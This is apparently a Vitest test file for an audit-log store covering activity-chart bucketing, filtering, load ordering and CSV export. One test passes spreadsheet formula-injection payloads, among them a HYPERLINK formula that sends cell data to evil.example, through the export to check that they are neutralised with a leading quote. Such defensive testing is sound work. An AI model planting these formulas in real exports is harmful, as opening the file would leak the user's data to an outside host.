import Papa from 'papaparse'
import { createPinia, setActivePinia } from 'pinia'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import type { LogFilterQuery, LogListQuery } from '@shared/ipc'
import type { LogEntry } from '@shared/types'
import { setApi } from '@renderer/api'
import { activityBuckets, useLogsStore } from '@renderer/stores/logs'
import { useNotificationsStore } from '@renderer/stores/notifications'
import { fakeApi, pageOf, problem } from '../fake-api'

const HOUR = 3_600_000
const DAY = 24 * HOUR

describe('activityBuckets', () => {
  it('uses hours up to two days, days up to two months, weeks beyond', () => {
    const from = Date.UTC(2026, 10, 1)
    expect(activityBuckets(from, from + DAY)).toHaveLength(24)
    expect(activityBuckets(from, from + 14 * DAY)).toHaveLength(14)
    expect(activityBuckets(from, from + 140 * DAY)).toHaveLength(20)
    expect(activityBuckets(from, from + 3000 * DAY).length).toBeLessThanOrEqual(62)
  })

  it('covers the period without gaps', () => {
    const buckets = activityBuckets(0, 3 * DAY)
    expect(buckets[0].start).toBe(0)
    expect(buckets.at(-1)!.end).toBe(3 * DAY)
    buckets.slice(1).forEach((bucket, i) => expect(bucket.start).toBe(buckets[i].end))
  })
})

describe('useLogsStore', () => {
  beforeEach(() => setActivePinia(createPinia()))
  afterEach(() => {
    setApi(undefined)
    vi.restoreAllMocks()
  })

  it('filters by entity and by whole days, the end day included', async () => {
    const list = vi.fn(async (_query: LogListQuery) => ({ pagination: { total_items: 0, page_number: 1, page_size: 20, total_pages: 0 }, data: [] }))
    setApi(fakeApi({ logs: { list } }))
    const store = useLogsStore()
    const start = new Date(2026, 10, 20, 15, 30).getTime()
    const end = new Date(2026, 10, 22, 9, 0).getTime()
    store.filters = { entityType: 'card', entityId: ' tok_1 ', range: [start, end] }
    await store.load()
    expect(list).toHaveBeenCalledWith({
      entity_type: 'card',
      entity_id: 'tok_1',
      start_date: new Date(2026, 10, 20).toISOString(),
      end_date: new Date(2026, 10, 23).toISOString(),
      page: 1,
      size: 20
    })
  })

  it('counts every bucket of the chart in one call, so the chart is one read in the audit log', async () => {
    const activity = vi.fn(async (_query: LogFilterQuery, periods: [number, number][]) => periods.map(([start]) => new Date(start).getDate()))
    setApi(fakeApi({ logs: { activity } }))
    const store = useLogsStore()
    store.filters = { entityType: 'card', entityId: '', range: [new Date(2026, 10, 1).getTime(), new Date(2026, 10, 10).getTime()] }
    await store.loadActivity()
    expect(store.activity.map((bucket) => bucket.count)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10])
    expect(activity).toHaveBeenCalledTimes(1)
    expect(activity.mock.calls[0][0]).toEqual({ entity_type: 'card' })
    expect(activity.mock.calls[0][1][0]).toEqual([new Date(2026, 10, 1).getTime(), new Date(2026, 10, 2).getTime()])
  })

  it('applies the filters from the first page to the table and to the chart, and clears them the same way', async () => {
    const list = vi.fn(async (_query: LogListQuery) => pageOf<LogEntry>([], 300))
    const activity = vi.fn(async (_query: LogFilterQuery, periods: [number, number][]) => periods.map(() => 0))
    setApi(fakeApi({ logs: { list, activity } }))
    const store = useLogsStore()
    await store.setPage(4)
    store.filters.entityType = 'application'
    await store.search()
    expect(list).toHaveBeenLastCalledWith({ entity_type: 'application', page: 1, size: 20 })
    expect(activity).toHaveBeenLastCalledWith({ entity_type: 'application' }, expect.any(Array))
    await store.resetFilters()
    expect(store.filters).toEqual({ entityType: null, entityId: '', range: null })
    expect(list).toHaveBeenLastCalledWith({ page: 1, size: 20 })
    expect(activity).toHaveBeenLastCalledWith({}, expect.any(Array))
    expect(store.pagination.prefix()).toBe('300 entries')
  })

  it('asks for the chart only once the rows have answered, so that they show first', async () => {
    const calls: string[] = []
    let answerList: () => void = () => undefined
    const list = vi.fn(
      (_query: LogListQuery) =>
        new Promise<ReturnType<typeof pageOf<LogEntry>>>((resolve) => {
          calls.push('list')
          answerList = () => resolve(pageOf<LogEntry>([], 3))
        })
    )
    const activity = vi.fn(async (_query: LogFilterQuery, periods: [number, number][]) => (calls.push('activity'), periods.map(() => 1)))
    setApi(fakeApi({ logs: { list, activity } }))
    const store = useLogsStore()
    const searched = store.search()
    await vi.waitFor(() => expect(calls).toEqual(['list']))
    expect(activity).not.toHaveBeenCalled()
    answerList()
    expect(await searched).toBe(true)
    expect(store.total).toBe(3)
    expect(calls).toEqual(['list', 'activity'])
    await vi.waitFor(() => expect(store.activity.map((bucket) => bucket.count)).toEqual(Array(14).fill(1)))
  })

  it('opens on the first page with one read of the rows, the entity types and the chart, however many times it is asked while it reads', async () => {
    const list = vi.fn(async (_query: LogListQuery) => pageOf<LogEntry>([], 3))
    const entityTypes = vi.fn(async () => [{ value: 'token', display_name: 'Token' }])
    const activity = vi.fn(async (_query: LogFilterQuery, periods: [number, number][]) => periods.map(() => 0))
    setApi(fakeApi({ logs: { list, entityTypes, activity } }))
    const store = useLogsStore()
    store.page = 3
    const byRoute = store.open()
    const byView = store.open()
    expect([await byRoute, await byView]).toEqual([true, true])
    expect(list).toHaveBeenCalledTimes(1)
    expect(list).toHaveBeenLastCalledWith({ page: 1, size: 20 })
    expect(entityTypes).toHaveBeenCalledTimes(1)
    await vi.waitFor(() => expect(activity).toHaveBeenCalledTimes(1))
    expect(store.entityTypes).toEqual([{ value: 'token', display_name: 'Token' }])
  })

  it('exports the entries matching the filters as a CSV download and says how many', async () => {
    const entry = { id: 'l1', tenant_id: 't', entity_type: 'token', entity_id: 'tok_1', operation: 'reveal', message: 'Token revealed: ticket 7', actor_type: 'user', actor_id: 'u1', created_at: '2026-11-25T10:00:00.000Z' } as LogEntry
    const traced = { ...entry, trace_id: 'checkout-7f3a' }
    const exported = vi.fn(async (_query: LogFilterQuery) => [traced, entry])
    setApi(fakeApi({ logs: { export: exported } }))
    const blobs: Blob[] = []
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => (blobs.push(blob as Blob), 'blob:csv'))
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
    const store = useLogsStore()
    store.filters.entityId = 'tok_1'
    await store.exportCsv()
    expect(exported).toHaveBeenCalledWith({ entity_id: 'tok_1' })
    expect(click).toHaveBeenCalledTimes(1)
    expect((click.mock.contexts[0] as HTMLAnchorElement).download).toMatch(/^audit-log-\d{4}-\d{2}-\d{2}\.csv$/)
    const [header, first] = (await blobs[0].text()).split(/\r?\n/)
    expect(header).toBe('created_at,actor_type,actor_id,entity_type,entity_id,operation,message,count,trace_id,tenant_id')
    expect(first).toContain('Token revealed: ticket 7')
    expect(first).toContain(',checkout-7f3a,t')
    expect(store.exporting).toBe(false)
    expect(useNotificationsStore().queue).toEqual([expect.objectContaining({ kind: 'success', title: 'Audit log exported', detail: '2 entries' })])
  })

  it('writes trace ids and entity ids a spreadsheet would run as a formula behind a quote, so opening the export runs nothing', async () => {
    const base = { id: 'l1', tenant_id: 't', entity_type: 'token', operation: 'read', message: 'Unauthorized', actor_type: 'application', actor_id: 'a1', created_at: '2026-11-25T10:00:00.000Z' }
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
    const entries = [
      { ...base, entity_id: 'tok_1', trace_id: hyperlink },
      { ...base, entity_id: '@HYPERLINK("https://evil.example","x")' },
      { ...base, entity_id: '-1-1', trace_id: '+1+1' },
      { ...base, entity_id: 'tok_2', message: '=1+1\nsecond line' }
    ] as LogEntry[]
    setApi(fakeApi({ logs: { export: vi.fn(async () => entries) } }))
    const blobs: Blob[] = []
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => (blobs.push(blob as Blob), 'blob:csv'))
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
    await useLogsStore().exportCsv()
    const [, ...rows] = Papa.parse<string[]>(await blobs[0].text()).data
    const column = (name: string) => rows.map((row) => row[['created_at', 'actor_type', 'actor_id', 'entity_type', 'entity_id', 'operation', 'message', 'count', 'trace_id', 'tenant_id'].indexOf(name)])
    expect(column('trace_id')).toEqual([`'${hyperlink}`, '', "'+1+1", ''])
    expect(column('entity_id')).toEqual(['tok_1', `'@HYPERLINK("https://evil.example","x")`, "'-1-1", 'tok_2'])
    expect(column('message')).toEqual(['Unauthorized', 'Unauthorized', 'Unauthorized', "'=1+1\nsecond line"])
  })

  it('downloads nothing when the export is refused', async () => {
    setApi(fakeApi({ logs: { export: vi.fn(async () => Promise.reject(problem(403, 'Not allowed.'))) } }))
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
    await useLogsStore().exportCsv()
    expect(click).not.toHaveBeenCalled()
    expect(useNotificationsStore().queue).toEqual([expect.objectContaining({ kind: 'error', title: 'Exporting the audit log failed' })])
  })
})
